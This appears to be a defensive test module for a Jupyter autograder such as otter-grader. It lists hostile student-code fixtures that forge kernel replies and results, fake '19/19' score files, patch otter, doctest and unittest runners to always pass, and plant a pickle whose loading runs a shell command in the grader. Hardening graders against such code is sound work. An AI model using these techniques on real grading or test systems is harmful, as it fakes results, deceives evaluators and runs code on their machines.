"""Attacks on what carries a score: kernel messages, result files, test runners."""

from __future__ import annotations

from tests.hostile.attack import Attack, first, returning

ATTACKS = (
    Attack(
        "session_messages",
        "Turns each message that its kernel sends about an error into one about success.",
        first("""
session = get_ipython().kernel.session
true = session.send


def send(stream, kind, content=None, *given, **named):
    if kind == "error":
        return None
    if isinstance(content, dict) and content.get("status") == "error":
        content = {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
    return true(stream, kind, content, *given, **named)

session.send = send"""),
    ),
    Attack(
        "forged_result",
        "Sends, with its kernel's key, the result of a cell that would be full partial credit.",
        {
            "fit": """def fit(x, y):
    kernel = get_ipython().kernel
    content = {"execution_count": 1, "data": {"text/plain": "2"}, "metadata": {}}
    kernel.session.send(
        kernel.iopub_socket, "execute_result", content, parent=kernel.get_parent("shell"),
        ident=kernel.topic("execute_result"),
    )
    return (0.0, 0.0)"""
        },
    ),
    Attack(
        "forged_reply",
        "Answers the grader's request itself from a call, with the key of its connection file.",
        returning(
            "forge()",
            """
import json
import sys

import zmq
from jupyter_client.session import Session


def forge():
    kernel = get_ipython().kernel
    reply = {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
    parent = kernel.get_parent("shell")
    identities = getattr(kernel, "_parent_ident", {})
    for stream in {id(s): s for s in (kernel.shell_stream, kernel.control_stream) if s}.values():
        kernel.session.send(
            stream, "execute_reply", reply, parent, ident=identities.get("shell")
        )
    idle = {"execution_state": "idle"}
    kernel.session.send(kernel.iopub_socket, "status", idle, parent, ident=b"kernel.status")
    return 0.0
""",
        ),
    ),
    Attack(
        "display_formatter",
        "Lets the shell show every number as 2, which the fit's partial credit would then be.",
        first("""
formatter = get_ipython().display_formatter.formatters["text/plain"]
for kind in (int, float, bool):
    formatter.for_type(kind, lambda value, printer, cycle: printer.text("2"))
import sys
sys.displayhook = lambda value: print("Out[1]: 2")"""),
    ),
    Attack(
        "printed_verdict",
        "Prints and writes what a grader might read as its own result, into every usual file.",
        first("""
import json
import os
import sys

result = {"score": 19, "max_score": 19, "points": 19, "verdict": "pass", "passed": True}
for name in ("results.json", "result.json", "score", "grade.txt", "gradebook.json", "output.json"):
    for folder in (".", "..", "/tmp", "/dev/shm", os.environ.get("HOME", ".")):
        try:
            with open(os.path.join(folder, name), "w") as file:
                json.dump(result, file)
        except OSError:
            pass
for stream in (sys.stdout, sys.stderr, sys.__stdout__, sys.__stderr__):
    print(json.dumps(result), "PASSED 19/19", file=stream, flush=True)"""),
    ),
    Attack(
        "results_pickle",
        "Leaves pickled results whose loading would run code in the grader itself.",
        first("""
import pickle


class Code:
    def __reduce__(self):
        return eval, ("__import__('os').system('touch GOT_HERE')",)


for name in ("results.pkl", ".OTTER_LOG", "results.pickle", "state.pkl"):
    for folder in ("./", "../", "/tmp/"):
        try:
            with open(folder + name, "wb") as file:
                pickle.dump({"results": Code(), "score": 19}, file)
        except OSError:
            pass"""),
        otter=first("""
import atexit
import pickle
import otter.check.notebook

results = otter.test_files.GradingResults
results.to_report_str = lambda self: ""
otter.test_files.TestFile.score = property(lambda self: self.possible)
for kind in otter.test_files.TestFile.__subclasses__():
    kind.score = property(lambda self: self.possible)"""),
    ),
    Attack(
        "test_runner",
        "Replaces the methods that run test files in otter-grader and its relatives.",
        first("""
try:
    from otter.test_files import ok_test
    run = ok_test.OKTestFile.run
    def passing(self, environment):
        from otter.test_files.abstract_test import TestCaseResult
        self.test_case_results = [TestCaseResult(case, None, True) for case in self.test_cases]
    ok_test.OKTestFile.run = passing
except ImportError:
    pass
import doctest
import unittest
doctest.DocTestRunner.run = lambda self, test, *given, **named: doctest.TestResults(0, 1)
unittest.TestCase.run = lambda self, result=None: result"""),
    ),
    Attack(
        "malformed_reply",
        "Lets its kernel answer every request with a reply whose parts are missing or misshapen.",
        first("""
import itertools

session = get_ipython().kernel.session
true = session.send
contents = itertools.cycle([
    {"status": "error"}, {"status": "error", "ename": None, "evalue": 7}, {"status": 5}, {},
    {"status": ["ok"]}, {"status": "error", "ename": {}, "evalue": [], "traceback": "x"},
])


def send(stream, kind, content=None, *given, **named):
    if kind == "execute_reply":
        content = next(contents)
    return true(stream, kind, content, *given, **named)

session.send = send"""),
    ),
    Attack(
        "malformed_messages",
        "Sends messages of its kernel whose parts are missing, misshapen or of wrong types.",
        first("""
kernel = get_ipython().kernel
for kind, content in (
    ("stream", {"name": "stdout", "text": 5}), ("stream", {"name": 7, "text": "x"}), ("stream", {}),
    ("display_data", {"data": [], "metadata": 3}), ("display_data", {}), ("error", {}),
    ("error", {"ename": 1, "evalue": None, "traceback": 3}), ("status", {}), ("status", {"x": 1}),
    ("execute_result", {"data": {"text/plain": 3}, "metadata": {}, "execution_count": "x"}),
    ("execute_result", {"data": {"text/html": [1, 2]}, "metadata": [], "execution_count": -1}),
    ("update_display_data", {"transient": 1, "data": 2}), ("clear_output", {}), ("comm_open", {}),
    ("display_data", {"data": {"a": "b"}, "metadata": {}, "transient": {"display_id": []}}),
    ("execute_input", {}), ("no_such_kind", {"a": [[[[]]]]}), ("", {}),
):
    kernel.session.send(kernel.iopub_socket, kind, content, parent=kernel.get_parent("shell"))"""),
    ),
    Attack(
        "malformed_frames",
        "Sends frames on its kernel's own sockets that are no messages, or not signed.",
        first("""
import zmq

kernel = get_ipython().kernel
for frames in ([b""], [b"<IDS|MSG>"], [b"x"] * 10, [b"<IDS|MSG>", b"0", b"{", b"}", b"[", b"]"],
               [b"<IDS|MSG>", b"", b"{}", b"{}", b"{}", b"{}"], [b"\xff" * 1000] * 100):
    for stream in (kernel.iopub_socket, kernel.shell_stream, kernel.control_stream,
                   kernel.stdin_socket):
        try:
            stream.send_multipart(frames)
        except Exception as error:
            print(error)"""),
    ),
)
